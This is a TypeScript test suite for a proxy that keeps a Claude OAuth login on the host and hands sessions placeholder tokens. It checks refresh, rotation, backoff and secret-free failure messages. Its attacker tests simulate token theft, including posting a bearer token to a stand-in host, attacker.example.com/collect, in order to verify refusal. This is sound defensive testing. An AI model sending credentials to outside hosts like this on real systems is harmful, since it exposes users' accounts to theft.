// A Claude subscription login kept on the host (secret: { claude_login: FILE }), through a real
// proxy with real TLS to local stand-ins of Claude's token endpoint and API (reached by their real
// names through the resolve override). The session's side: a placeholder login store; a refresh
// with its refresh placeholder gets new placeholders while the host refreshes (and rotates) the
// real pair. The attacker's side: guessed and real-looking refresh tokens, other grants, replays,
// the placeholders sent elsewhere — refused, never forwarded, nothing real returned. Failures of
// the host's login or of the token endpoint: a clear answer naming the credential, an audit line,
// a log error, a bounded backoff, no secret anywhere.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import pino from 'pino';
import { createTestPki, rmTmp, sleep, startAirlock, startHttpsUpstream, tmpDir, toResolveMap, waitFor } from '../helpers/servers.js';
import type { AirlockHandle, TestPki, TestUpstream } from '../helpers/servers.js';
import { httpsViaProxy } from '../helpers/clients.js';
import type { HttpsViaProxyResult } from '../helpers/clients.js';
import { secretLeaks } from '../helpers/secret-leaks.js';
import { credentialsFactory, SecretSourceError } from '../../src/credentials/sources.js';
import { ClaudeLoginStore } from '../../src/credentials/claude-oauth.js';
import { CredentialUnavailable } from '../../src/credentials/broker.js';
import { parsePolicy, PolicyError } from '../../src/policy/index.js';
import { checkReplacement } from '../../src/sessions/policy-reload.js';
import { claudeApiStandIn, claudeStore, claudeTokenStandIn, realAccess, realRefresh } from '../helpers/claude-login-standin.js';
import type { ClaudeApiStandIn, ClaudeTokenStandIn } from '../helpers/claude-login-standin.js';

const REPLY = 'hello from the stand-in';

let pki: TestPki;
let dir: string;

beforeAll(async () => {
  pki = await createTestPki();
  dir = tmpDir('airlock-claude-login-');
});

afterAll(() => rmTmp(pki?.dir, dir));

interface Rig {
  airlock: AirlockHandle;
  token: ClaudeTokenStandIn;
  api: ClaudeApiStandIn;
  attacker: TestUpstream;
  tokenServer: TestUpstream;
  store: string;
  logs: string[];
  /** The session's placeholder login store. */
  access: string;
  refresh: string;
  sessionStore: Record<string, unknown>;
  post(host: string, path: string, body: unknown, headers?: Record<string, string>): Promise<HttpsViaProxyResult>;
  everything(): Promise<string>;
  close(): Promise<void>;
}

const rigs: Rig[] = [];
afterEach(async () => {
  while (rigs.length) await rigs.pop()!.close();
});

async function rig(opts: { expiresAt?: number } = {}): Promise<Rig> {
  const first = { accessToken: realAccess(), refreshToken: realRefresh() };
  const token = claudeTokenStandIn(first);
  const api = claudeApiStandIn(() => token.current.accessToken, REPLY);
  const tokenServer = await startHttpsUpstream({ pki, names: ['platform.claude.com', 'console.anthropic.com'], handler: token.handler });
  const apiServer = await startHttpsUpstream({ pki, names: ['api.anthropic.com'], handler: api.handler });
  const attacker = await startHttpsUpstream({ pki, names: ['attacker.example.com'] });
  const store = join(tmpDir('airlock-claude-store-'), '.credentials.json');
  writeFileSync(store, claudeStore(first, opts.expiresAt ?? Date.now() - 60_000), { mode: 0o600 });
  const resolve = {
    'platform.claude.com:443': tokenServer.port,
    'console.anthropic.com:443': tokenServer.port,
    'api.anthropic.com:443': apiServer.port,
    'attacker.example.com:443': attacker.port,
  };
  const logs: string[] = [];
  const log = pino({ level: 'info' }, new Writable({ write: (chunk: Buffer, _e, cb) => (logs.push(chunk.toString('utf8')), cb()) }));
  const airlock = await startAirlock({
    policy: `version: 1
name: claude-login
allow:
  - host: api.anthropic.com
  - host: platform.claude.com
  - host: console.anthropic.com
  - host: attacker.example.com
credentials:
  - preset: claude-login
    secret: { claude_login: ${store} }
`,
    resolve,
    upstreamCa: [pki.caPem],
    log,
    credentials: credentialsFactory({}, { ca: [pki.caPem], resolve: toResolveMap(resolve) }),
  });
  const files = airlock.session.credentials.sessionFiles ?? [];
  const loginFile = files.find((f) => f.path === '.claude/.credentials.json')!;
  const sessionStore = JSON.parse(loginFile.content) as { claudeAiOauth: { accessToken: string; refreshToken: string } };
  const ca = readFileSync(airlock.bundlePath, 'utf8');
  const r: Rig = {
    airlock,
    token,
    api,
    attacker,
    tokenServer,
    store,
    logs,
    access: sessionStore.claudeAiOauth.accessToken,
    refresh: sessionStore.claudeAiOauth.refreshToken,
    sessionStore,
    post: (host, path, body, headers = {}) =>
      httpsViaProxy({
        proxyPort: airlock.port,
        proxyAuthorization: airlock.proxyAuthorization,
        url: `https://${host}${path}`,
        ca,
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: typeof body === 'string' ? body : JSON.stringify(body),
      }),
    // Everything the proxy wrote: its log, the session's state dir (audit log).
    everything: async () => {
      await airlock.auditLines();
      let out = logs.join('');
      for (const f of readdirSync(airlock.stateDir, { recursive: true }) as string[]) {
        const p = join(airlock.stateDir, f);
        if (statSync(p).isFile()) out += readFileSync(p, 'latin1');
      }
      return out;
    },
    close: async () => {
      await airlock.close();
      await Promise.all([tokenServer.close(), apiServer.close(), attacker.close()]);
      rmTmp(join(store, '..'));
    },
  };
  rigs.push(r);
  return r;
}

function realValues(r: Rig): string[] {
  return r.token.issued.flatMap((p) => [p.accessToken, p.refreshToken]);
}

function expectNoReal(r: Rig, text: string, where: string): void {
  for (const v of realValues(r)) expect(secretLeaks(text, v), `${where} holds a real token`).toEqual([]);
}

const refreshBody = (refresh: string) => ({ grant_type: 'refresh_token', refresh_token: refresh, client_id: '9d1c250a-e61b-44d9-88ed-5944d1962f5e', scope: 'user:inference user:profile' });

describe('Claude login kept on the host: the session side', () => {
  it('the session gets a placeholder login store with the real scopes, subscription and expiry, no real token', async () => {
    const expiresAt = Date.now() - 60_000;
    const r = await rig({ expiresAt });
    const files = r.airlock.session.credentials.sessionFiles ?? [];
    expect(files.map((f) => `${f.path} ${f.mode.toString(8)}`)).toEqual(['.claude/.credentials.json 600', '.claude.json 600']);
    const login = (r.sessionStore as { claudeAiOauth: Record<string, unknown> }).claudeAiOauth;
    expect(login).toMatchObject({ expiresAt, scopes: ['user:inference', 'user:profile', 'user:sessions:claude_code'], subscriptionType: 'max', rateLimitTier: 'default_claude_max_20x' });
    expect(r.access).toMatch(/^sk-ant-oat01-airlock-claude-login-/);
    expect(r.refresh).toMatch(/^sk-ant-ort01-airlock-/);
    expect(JSON.parse(files[1]!.content)).toEqual({ hasCompletedOnboarding: true });
    for (const f of files) expectNoReal(r, f.content, f.path);
    // Nothing was refreshed to make the session's store: its expiry is the host's as read.
    expect(r.token.grants).toEqual([]);
  });

  it('a refresh with the refresh placeholder: new placeholders for the session, the real pair refreshed and rotated on the host (0600), the API sees the new real token', async () => {
    const r = await rig();
    const before = r.token.current;
    // Other things Claude Code keeps in its store (MCP servers' logins) survive the write-back.
    const doc = JSON.parse(readFileSync(r.store, 'utf8')) as Record<string, unknown>;
    writeFileSync(r.store, JSON.stringify({ ...doc, mcpOAuth: { 'server|abc': { serverName: 'x' } } }), { mode: 0o600 });
    const res = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(res.status, res.body).toBe(200);
    const answer = JSON.parse(res.body) as Record<string, unknown>;
    expect(answer.access_token).toBe(r.access);
    expect(answer.refresh_token).toMatch(/^sk-ant-ort01-airlock-/);
    expect(answer.refresh_token).not.toBe(r.refresh);
    expect(answer.expires_in).toBeGreaterThan(3500);
    expect(answer.expires_in).toBeLessThanOrEqual(3600);
    expect(answer.scope).toBe('user:inference user:profile user:sessions:claude_code');
    expect(res.headers['cache-control']).toBe('no-store');
    // Upstream: one grant, with the real refresh token and Claude Code's client.
    expect(r.token.grants).toEqual([{ grant_type: 'refresh_token', refresh_token: before.refreshToken, client_id: '9d1c250a-e61b-44d9-88ed-5944d1962f5e', scope: 'user:inference user:profile user:sessions:claude_code' }]);
    for (const b of r.token.bodies) expect(b).not.toContain('airlock');
    // The rotated pair is in the user's store, still 0600, other fields kept.
    const stored = JSON.parse(readFileSync(r.store, 'utf8')) as { claudeAiOauth: Record<string, unknown>; mcpOAuth?: unknown };
    expect(stored.mcpOAuth).toEqual({ 'server|abc': { serverName: 'x' } });
    expect(stored.claudeAiOauth).toMatchObject({ accessToken: r.token.current.accessToken, refreshToken: r.token.current.refreshToken, subscriptionType: 'max' });
    expect(stored.claudeAiOauth.refreshToken).not.toBe(before.refreshToken);
    expect(statSync(r.store).mode & 0o777).toBe(0o600);
    // The API gets the new real access token for the session's (unchanged) access placeholder.
    const msg = await r.post('api.anthropic.com', '/v1/messages', { model: 'claude-test', max_tokens: 10, messages: [] }, { authorization: `Bearer ${r.access}`, 'anthropic-beta': 'oauth-2025-04-20' });
    expect(msg.status, msg.body).toBe(200);
    expect(msg.body).toContain(REPLY);
    expect(r.api.seen.at(-1)).toMatchObject({ bearer: r.token.current.accessToken, beta: 'oauth-2025-04-20', ok: true });
    await r.airlock.waitForAudit((l) => l.host === 'api.anthropic.com' && l.kind === 'request');
    const audit = await r.airlock.auditLines();
    const tokenLine = audit.find((l) => l.host === 'platform.claude.com' && l.kind === 'request');
    expect(tokenLine).toMatchObject({ action: 'allow', status: 200, credentials: ['claude-login'], detail: "claude-login: refresh answered by the proxy with placeholders; the host's login was refreshed upstream" });
    expect(audit.find((l) => l.host === 'api.anthropic.com' && l.kind === 'request')).toMatchObject({ action: 'allow', status: 200, credentials: ['claude-login'] });
    expectNoReal(r, res.body + JSON.stringify(res.headers), 'the refresh answer');
    expectNoReal(r, await r.everything(), 'the proxy log and state dir');
  });

  it('a token still fresh on the host: the API request uses it without any refresh; an expired one is refreshed before the request', async () => {
    const fresh = await rig({ expiresAt: Date.now() + 3_600_000 });
    const a = await fresh.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${fresh.access}` });
    expect(a.status).toBe(200);
    expect(fresh.token.grants).toHaveLength(0);
    const stale = await rig();
    const first = stale.token.current.accessToken;
    const b = await stale.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${stale.access}` });
    expect(b.status, b.body).toBe(200);
    expect(stale.token.grants).toHaveLength(1);
    expect(stale.api.seen.at(-1)!.bearer).not.toBe(first);
    expect(stale.api.seen.at(-1)!.ok).toBe(true);
  });

  it('a session refresh after the host already refreshed is answered from the host (no upstream call); one while the session knows the current pair goes upstream only after the API refused that token (a 401 the proxy saw), at most once per 30 s', async () => {
    const r = await rig();
    // The host refreshes first, for an API request (the real token had expired).
    expect((await r.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${r.access}` })).status).toBe(200);
    expect(r.token.grants).toHaveLength(1);
    // The session's store still says expired: its refresh gets the current expiry, no new grant.
    const a = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(a.status).toBe(200);
    expect((JSON.parse(a.body) as { expires_in: number }).expires_in).toBeGreaterThan(3500);
    expect(r.token.grants).toHaveLength(1);
    // Now it knows the current pair; asking again (as after a 401) is a forced refresh, rate-limited.
    const b = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody((JSON.parse(a.body) as { refresh_token: string }).refresh_token));
    expect(b.status).toBe(200);
    expect(r.token.grants).toHaveLength(1); // the host refreshed less than 30 s ago
    const fresh = await rig({ expiresAt: Date.now() + 3_600_000 });
    // A fresh token the API has not refused: asking is answered with it, nothing upstream (a
    // session cannot rotate the host's login at will).
    const c = await fresh.post('platform.claude.com', '/v1/oauth/token', refreshBody(fresh.refresh));
    expect(c.status).toBe(200);
    expect(fresh.token.grants).toHaveLength(0);
    const again = await fresh.post('platform.claude.com', '/v1/oauth/token', refreshBody((JSON.parse(c.body) as { refresh_token: string }).refresh_token));
    expect(again.status).toBe(200);
    expect(fresh.token.grants).toHaveLength(0);
    // The token is revoked upstream: the API answers the proxy's request 401, and the session's
    // refresh after that goes upstream; the API takes the new token.
    fresh.token.current = { ...fresh.token.current, accessToken: realAccess() };
    const refused = await fresh.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${fresh.access}` });
    expect(refused.status).toBe(401);
    const d = await fresh.post('platform.claude.com', '/v1/oauth/token', refreshBody((JSON.parse(again.body) as { refresh_token: string }).refresh_token));
    expect(d.status, d.body).toBe(200);
    expect(fresh.token.grants).toHaveLength(1);
    const retried = await fresh.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${fresh.access}` });
    expect(retried.status, retried.body).toBe(200);
  });

  it('concurrent refreshes with the same placeholder coalesce into one upstream refresh, all answered alike', async () => {
    const r = await rig();
    const started = Date.now();
    const answers = await Promise.all(Array.from({ length: 20 }, () => r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh))));
    console.log(`20 concurrent session refreshes: ${r.token.grants.length} upstream refresh, all answered in ${Date.now() - started} ms; statuses ${answers.map((a) => a.status).join(',')}`);
    expect(answers.map((a) => a.status)).toEqual(Array(20).fill(200));
    expect(new Set(answers.map((a) => (JSON.parse(a.body) as { refresh_token: string }).refresh_token)).size).toBe(1);
    expect(r.token.grants).toHaveLength(1);
  });

  it('two sessions on one host login: their concurrent refreshes make one upstream refresh; each gets its own refresh placeholder', async () => {
    const r = await rig();
    const s2 = await r.airlock.runtime.sessions.create(r.airlock.session.policy);
    const files2 = s2.credentials.sessionFiles ?? [];
    const refresh2 = (JSON.parse(files2[0]!.content) as { claudeAiOauth: { refreshToken: string } }).claudeAiOauth.refreshToken;
    expect(refresh2).not.toBe(r.refresh);
    const ca = readFileSync(r.airlock.bundlePath, 'utf8');
    const ca2 = readFileSync(s2.bundlePath, 'utf8');
    const post2 = (refresh: string) =>
      httpsViaProxy({
        proxyPort: r.airlock.port,
        proxyAuthorization: 'Basic ' + Buffer.from(`${s2.id}:${s2.token}`).toString('base64'),
        url: 'https://platform.claude.com/v1/oauth/token',
        ca: ca2,
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(refreshBody(refresh)),
      });
    expect(ca).not.toBe(ca2);
    const [a, b] = await Promise.all([r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh)), post2(refresh2)]);
    expect([a.status, b.status]).toEqual([200, 200]);
    expect(r.token.grants).toHaveLength(1);
    // One session's placeholder is nothing to the other.
    const crossed = await post2((JSON.parse(a.body) as { refresh_token: string }).refresh_token);
    expect(crossed.status).toBe(400);
    expect(r.token.grants).toHaveLength(1);
  });

  it('the older token host (console.anthropic.com) is answered the same way; a revoke (logout) is answered without ending the host login', async () => {
    const r = await rig();
    const res = await r.post('console.anthropic.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(res.status, res.body).toBe(200);
    const next = (JSON.parse(res.body) as { refresh_token: string }).refresh_token;
    const revoke = await r.post('platform.claude.com', '/v1/oauth/token/revoke', { token: next, token_type_hint: 'refresh_token' });
    expect(revoke.status).toBe(200);
    expect(r.token.bodies).toHaveLength(1); // the refresh; the revoke went nowhere
    const again = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(next));
    expect(again.status).toBe(200);
  });
});

describe('Claude login kept on the host: the attacker side', () => {
  it('refresh tokens the session was not given (guessed, real-looking, a real one, the access placeholder) are refused and never forwarded', async () => {
    const r = await rig();
    const tries = [
      `sk-ant-ort01-${'a'.repeat(40)}`,
      r.refresh.replace(/.$/, (c) => (c === '0' ? '1' : '0')),
      r.token.current.refreshToken, // a real one, were the session to hold it: still not forwarded
      r.access,
      '',
    ];
    for (const t of tries) {
      const res = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(t));
      expect(res.status, t).toBe(400);
      expect(JSON.parse(res.body)).toMatchObject({ error: 'invalid_grant' });
      expect(res.body).toContain('claude-login');
      expectNoReal(r, res.body, 'a refusal');
    }
    expect(r.token.bodies).toEqual([]);
    await waitFor(async () => (await r.airlock.auditLines()).filter((l) => l.host === 'platform.claude.com' && l.kind === 'request').length === tries.length || null);
    const audit = await r.airlock.auditLines();
    const lines = audit.filter((l) => l.host === 'platform.claude.com' && l.kind === 'request');
    expect(lines).toHaveLength(tries.length);
    for (const l of lines) expect(l).toMatchObject({ action: 'deny', reason: 'credential_misuse', status: 400 });
  });

  it('other grants (authorization_code, client_credentials, password, jwt-bearer), bodies that are not JSON and other paths are refused and never forwarded', async () => {
    const r = await rig();
    for (const grant of ['authorization_code', 'client_credentials', 'password', 'urn:ietf:params:oauth:grant-type:jwt-bearer']) {
      const res = await r.post('platform.claude.com', '/v1/oauth/token', { grant_type: grant, code: 'abc', refresh_token: r.refresh, redirect_uri: 'https://attacker.example.com/' });
      expect(res.status, grant).toBe(400);
      expect(JSON.parse(res.body)).toMatchObject({ error: 'unsupported_grant_type' });
    }
    expect((await r.post('platform.claude.com', '/v1/oauth/token', 'grant_type=refresh_token', { 'content-type': 'text/plain' })).status).toBe(400);
    expect((await r.post('platform.claude.com', '/v1/oauth/token/exchange', refreshBody(r.refresh))).status).toBe(400);
    // A form body is read too: the placeholder refresh works, anything else is refused.
    const form = await r.post('platform.claude.com', '/v1/oauth/token', `grant_type=authorization_code&code=x`, { 'content-type': 'application/x-www-form-urlencoded' });
    expect(form.status).toBe(400);
    // A revoke of anything but the session's own tokens is refused (and never forwarded either).
    expect((await r.post('platform.claude.com', '/v1/oauth/token/revoke', { token: r.token.current.refreshToken })).status).toBe(400);
    expect(r.token.bodies).toEqual([]);
  });

  it('a replayed (already used) refresh placeholder is refused once its 5 s grace is over; the current one still works', async () => {
    const r = await rig();
    const first = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(first.status).toBe(200);
    // Within 5 s a request that raced the first gets the same answer (no new refresh, no new placeholder).
    const raced = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(raced.status).toBe(200);
    expect(JSON.parse(raced.body)).toEqual(JSON.parse(first.body));
    await sleep(5_100);
    const replay = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(replay.status).toBe(400);
    expect(JSON.parse(replay.body).error_description).toMatch(/already used/);
    expect(r.token.grants).toHaveLength(1);
    const next = (JSON.parse(first.body) as { refresh_token: string }).refresh_token;
    const second = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(next));
    expect(second.status).toBe(200);
    // Within 30 s of the last upstream refresh a session's refresh is answered from it: no storm.
    expect(r.token.grants).toHaveLength(1);
  }, 20_000);

  it('the placeholders sent to another host: the access placeholder is refused (403), the refresh placeholder arrives as the worthless placeholder it is', async () => {
    const r = await rig();
    const misuse = await r.post('attacker.example.com', '/collect', { x: 1 }, { authorization: `Bearer ${r.access}` });
    expect(misuse.status).toBe(403);
    expect(misuse.body).toContain('credential_misuse');
    const before = r.attacker.requests.length;
    const res = await r.post('attacker.example.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(res.status).toBe(200);
    const echoed = JSON.parse(res.body) as { body: string; headers: Record<string, string> };
    expect(JSON.parse(echoed.body).refresh_token).toBe(r.refresh);
    expect(r.attacker.requests.length).toBe(before + 1);
    expectNoReal(r, res.body, 'what the other host saw');
    // The token endpoint over the api host (not a token host): nothing is answered or refreshed there.
    const viaApi = await r.post('api.anthropic.com', '/v1/oauth/token', refreshBody(r.refresh));
    expect(viaApi.status).toBe(401);
    expect(r.token.bodies).toEqual([]);
    expectNoReal(r, await r.everything(), 'the proxy log and state dir');
  });
});

describe('Claude login kept on the host: failures are clear, bounded and secret-free', () => {
  for (const [mode, status, said] of [
    ['invalid_grant', 401, /refused the host's login \(expired or revoked\)/],
    ['error500', 502, /the token endpoint failed/],
    ['garbage', 502, /the token endpoint failed/],
  ] as const) {
    it(`token endpoint answers ${mode}: the session gets ${status} naming the credential and the fix; audit and log say so; the next try backs off`, async () => {
      const r = await rig();
      r.token.mode = mode;
      const res = await r.post('platform.claude.com', '/v1/oauth/token', refreshBody(r.refresh));
      expect(res.status, res.body).toBe(status);
      const desc = (JSON.parse(res.body) as { error_description: string }).error_description;
      expect(desc).toMatch(said);
      expect(desc).toContain('credential "claude-login"');
      expect(desc).toContain('log in again on the host');
      expect(r.token.bodies).toHaveLength(1);
      // The API request needing the token: the same answer, without another upstream try (backoff).
      const api = await r.post('api.anthropic.com', '/v1/messages', { model: 'm', messages: [] }, { authorization: `Bearer ${r.access}` });
      expect(api.status).toBe(status);
      expect(api.body).toContain('credential "claude-login"');
      expect(r.token.bodies).toHaveLength(1);
      expect(r.api.seen).toHaveLength(0);
      expect(await r.airlock.waitForAudit((l) => l.host === 'platform.claude.com' && l.kind === 'request')).toMatchObject({ action: 'deny', reason: 'upstream_error', status });
      expect(await r.airlock.waitForAudit((l) => l.host === 'api.anthropic.com' && l.kind === 'request')).toMatchObject({ action: 'deny', reason: 'upstream_error', status });
      const errors = r.logs.filter((l) => l.includes('"level":50'));
      expect(errors.length).toBeGreaterThanOrEqual(2);
      expect(errors.join('')).toContain(r.store);
      if (mode === 'invalid_grant') expect(errors.join('')).toContain('log in again on the host with `claude`, then /login');
      expectNoReal(r, res.body + api.body, 'the answers');
      expectNoReal(r, await r.everything(), 'the proxy log and state dir');
      // The session's refresh placeholder is still good once the host is fixed.
      expect(readFileSync(r.store, 'utf8')).toContain(r.token.current.refreshToken);
    });
  }

  it('a slow token endpoint times out (502), the store backs off exponentially and is bounded; a fixed endpoint then works', async () => {
    const r = await rig();
    r.token.mode = 'slow';
    let clock = Date.now();
    const store = new ClaudeLoginStore('claude-login', r.store, { ca: [pki.caPem], resolve: toResolveMap({ 'platform.claude.com:443': r.tokenServer.port }), timeoutMs: 300 }, () => clock);
    const started = Date.now();
    const err = await store.access().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(CredentialUnavailable);
    expect((err as CredentialUnavailable).status).toBe(502);
    expect((err as CredentialUnavailable).sessionMessage).toMatch(/too slow/);
    expect(Date.now() - started).toBeLessThan(5_000);
    const tries = () => r.token.bodies.length;
    expect(tries()).toBe(1);
    // During the backoff (5 s, then 10, 20, ... up to 5 min) nothing is sent.
    for (const wait of [1_000, 3_900]) {
      clock += wait;
      await expect(store.access()).rejects.toBeInstanceOf(CredentialUnavailable);
    }
    expect(tries()).toBe(1);
    clock += 200; // past 5 s: one more try, then 10 s of quiet
    await expect(store.access()).rejects.toBeInstanceOf(CredentialUnavailable);
    expect(tries()).toBe(2);
    clock += 9_000;
    await expect(store.access()).rejects.toBeInstanceOf(CredentialUnavailable);
    expect(tries()).toBe(2);
    r.token.mode = 'ok';
    clock += 1_500;
    const token = await store.access();
    expect(token).toBe(r.token.current.accessToken);
    expect(store.refreshes).toBe(1);
  });

  it('a store that cannot be written back: the refresh still works here, the operator is told the host CLI needs /login again', async () => {
    const r = await rig();
    const warnings: string[] = [];
    const store = new ClaudeLoginStore('claude-login', r.store, { ca: [pki.caPem], resolve: toResolveMap({ 'platform.claude.com:443': r.tokenServer.port }) }, Date.now, (m) => warnings.push(m));
    rmTmp(join(r.store, '..'));
    const token = await store.access();
    expect(token).toBe(r.token.current.accessToken);
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/cannot write the rotated login back \(ENOENT\); `claude` on the host will need \/login again/);
    expectNoReal(r, warnings[0]!, 'the warning');
  });

  it('a malformed or missing login store is a start error naming the file and the field, with no token in it', async () => {
    const bad = join(dir, 'bad-store.json');
    const secret = realRefresh();
    const cases: Array<[string, RegExp]> = [
      ['not json {', /is not JSON/],
      [JSON.stringify({ other: {} }), /has no claudeAiOauth login/],
      [JSON.stringify({ claudeAiOauth: { accessToken: realAccess(), refreshToken: `${secret} with spaces`, expiresAt: 1 } }), /claudeAiOauth\.refreshToken is missing or malformed/],
      [JSON.stringify({ claudeAiOauth: { accessToken: realAccess(), refreshToken: secret, expiresAt: 'soon' } }), /claudeAiOauth\.expiresAt is missing or malformed/],
    ];
    const policy = (file: string) => parsePolicy(`version: 1\nname: x\ncredentials:\n  - preset: claude-login\n    secret: { claude_login: ${file} }\n`, 'p.yaml');
    for (const [text, message] of cases) {
      writeFileSync(bad, text, { mode: 0o600 });
      const err = await credentialsFactory({})(policy(bad), 's').catch((e: unknown) => e);
      expect(err).toBeInstanceOf(SecretSourceError);
      expect((err as Error).message).toMatch(message);
      expect((err as Error).message).toContain(bad);
      expect((err as Error).message).toContain('credential "claude-login"');
      expect(secretLeaks((err as Error).message, secret)).toEqual([]);
    }
    const missing = await credentialsFactory({})(policy(join(dir, 'nope.json')), 's').catch((e: unknown) => e);
    expect((missing as Error).message).toMatch(/cannot read .*nope\.json \(ENOENT\); log in on the host/);
    // ~/ is the host user's home from the environment given.
    const home = tmpDir('airlock-claude-home-');
    const err = await credentialsFactory({ HOME: home })(policy('~/.claude/.credentials.json'), 's').catch((e: unknown) => e);
    expect((err as Error).message).toContain(join(home, '.claude/.credentials.json'));
    rmTmp(home);
  });
});

describe('claude_login and google in the policy', () => {
  const base = `version: 1\nname: p\ncredentials:\n  - preset: claude-login\n    secret: { claude_login: ~/.claude/.credentials.json }\n`;
  it('parses, refuses what does not fit, and a reload cannot move where a login comes from', () => {
    expect(parsePolicy(base, 'p.yaml').credentials[0]).toMatchObject({ name: 'claude-login', env: [], secret: { kind: 'claude_login', path: '~/.claude/.credentials.json' }, hosts: ['api.anthropic.com', 'mcp-proxy.anthropic.com'] });
    expect(() => parsePolicy(base.replace('~/.claude/.credentials.json', '""'), 'p.yaml')).toThrow(/p\.yaml:5: credentials\[0\]\.secret\.claude_login: "" is not a file path/);
    expect(() => parsePolicy(base.replace('}', ', ttl_seconds: 5 }'), 'p.yaml')).toThrow(/ttl_seconds: only applies to command secrets/);
    expect(() => parsePolicy(base.replace('claude_login: ~/.claude/.credentials.json', 'claude_login: [a]'), 'p.yaml')).toThrow(/claude_login/);
    let message = '';
    try {
      checkReplacement(parsePolicy(base, 'p.yaml'), parsePolicy(base.replace('~/.claude/.credentials.json', '/tmp/other.json'), 'p.yaml'), null);
    } catch (err) {
      expect(err).toBeInstanceOf(PolicyError);
      message = (err as Error).message;
    }
    expect(message).toContain('would take its secret from claude_login /tmp/other.json instead of claude_login ~/.claude/.credentials.json');
    const g = `version: 1\nname: p\ncredentials:\n  - preset: vertex\n    secret: { google: adc }\n`;
    expect(() => checkReplacement(parsePolicy(g, 'p.yaml'), parsePolicy(g.replace('adc', '/etc/sa.json'), 'p.yaml'), null)).toThrow(/would take its secret from google \/etc\/sa\.json .* instead of google adc/);
  });
});
